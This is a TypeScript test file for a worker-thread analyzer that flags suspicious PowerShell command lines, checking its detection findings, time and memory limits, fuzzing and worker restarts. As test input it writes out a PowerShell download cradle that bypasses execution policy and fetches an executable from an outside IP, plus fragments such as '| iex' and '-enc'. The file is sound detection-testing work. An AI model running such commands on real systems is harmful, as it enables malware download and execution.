/**
 * The analyzer the bot runs: a worker thread with a time and a memory limit. The property: no input
 * up to 1 MB, random or built to hurt, makes it throw or go past the limits (250 ms, 64 MB heap) —
 * the worker itself enforces them, so an input that went past would come back `stopped`.
 */
import fc from 'fast-check';
import { ANALYSIS_MAX_HEAP_MB, ANALYSIS_TIME_LIMIT_MS, WorkerCommandAnalyzer } from '../../../src/adapters/analysis/worker-command-analyzer';
import type { CommandAnalysisOutcome } from '../../../src/ports/command-analyzer';
import { fill, WORST_UNITS, WORST_WHOLE } from './worst-case-commands';

const MB = 1024 * 1024;

describe('WorkerCommandAnalyzer', () => {
  const analyzer = new WorkerCommandAnalyzer();
  afterAll(() => analyzer.close());

  async function timedAnalysis(commandLine: string): Promise<{ outcome: CommandAnalysisOutcome; ms: number }> {
    const start = performance.now();
    const outcome = await analyzer.analyze(commandLine);
    return { outcome, ms: performance.now() - start };
  }

  test('analyses in the worker: the flagship command', async () => {
    const { outcome } = await timedAnalysis('powershell.exe -ExecutionPolicy Bypass -c "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.45/update.exe\',\'u.exe\')"');
    expect(outcome).toMatchObject({ kind: 'analysed', analysis: { findings: [{ id: 'execution-policy-bypass' }, { id: 'download-cradle' }], iocs: { ips: ['203.0.113.45'] } } });
  });

  test(`limits: ${ANALYSIS_TIME_LIMIT_MS} ms and ${ANALYSIS_MAX_HEAP_MB} MB`, () => {
    expect(ANALYSIS_TIME_LIMIT_MS).toBeLessThanOrEqual(250);
    expect(ANALYSIS_MAX_HEAP_MB).toBeLessThanOrEqual(64);
  });

  test.each([...WORST_UNITS.map(([name, unit]) => [name, (size: number) => fill(unit, size)] as const), ...WORST_WHOLE])(
    'worst case %s at 32,767 characters and 1 MB: analysed within the limits',
    async (_name, build) => {
      for (const size of [32_767, MB]) {
        const { outcome, ms } = await timedAnalysis(build(size));
        expect(outcome.kind === 'analysed' ? 'analysed' : outcome.note).toBe('analysed');
        expect(ms).toBeLessThan(ANALYSIS_TIME_LIMIT_MS);
      }
    },
  );

  test('random command lines, small and up to 1 MB, mixing the hurtful pieces: never stopped, never thrown', async () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 40 }),
      fc.constantFrom(...WORST_UNITS.map(([, unit]) => unit), ' -enc ', ' -ep bypass ', ' cmd /c ', ' | iex ', 'http://198.51.100.7/a ', '2001:db8::1 '),
    );
    const commandLine = fc.tuple(fc.array(piece, { maxLength: 30 }), fc.integer({ min: 0, max: 5 })).map(([pieces, scale]) => {
      const text = pieces.join('');
      return scale >= 4 && text ? fill(text, scale === 5 ? MB : 64 * 1024) : text;
    });
    await fc.assert(
      fc.asyncProperty(commandLine, async (c) => {
        const { outcome, ms } = await timedAnalysis(c);
        expect(outcome.kind === 'analysed' ? 'analysed' : outcome.note).toBe('analysed');
        expect(ms).toBeLessThan(ANALYSIS_TIME_LIMIT_MS);
      }),
      { numRuns: 60 },
    );
  });

  test('past the time limit the worker is stopped and said so, and the next analysis gets a fresh worker', async () => {
    const stops: string[] = [];
    const strict = new WorkerCommandAnalyzer({ timeLimitMs: 1, onStop: (reason) => stops.push(reason) });
    try {
      const slow = await strict.analyze(fill('powershell -nop ', MB));
      expect(slow).toEqual({ kind: 'stopped', reason: 'time', note: 'analysis stopped after 1 ms — none' });
      expect(stops).toEqual(['time']);
      const concurrent = await Promise.all([strict.analyze('a'), strict.analyze('b')]);
      // Answered, each within 1 ms on a fresh worker or stopped: the killed worker left nothing waiting.
      expect(concurrent.every((o) => o.kind === 'analysed' || o.reason === 'time')).toBe(true);
    } finally {
      await strict.close();
    }
  });

  test('requests queue behind each other on one warm worker, each answered with its own analysis', async () => {
    const outcomes = await Promise.all(['powershell -nop', 'powershell -w hidden', 'Invoke-Expression $x'].map((c) => analyzer.analyze(c)));
    expect(outcomes.map((o) => (o.kind === 'analysed' ? o.analysis.findings.map((f) => f.id) : o.note))).toEqual([['no-profile'], ['hidden-window'], ['invoke-expression']]);
  });

  test('after close every request is answered "not available", none hangs', async () => {
    const closing = new WorkerCommandAnalyzer();
    const pending = closing.analyze('powershell -nop');
    await closing.close();
    expect((await pending).kind).toBe('stopped');
    expect(await closing.analyze('x')).toMatchObject({ kind: 'stopped', reason: 'failed' });
  });
});
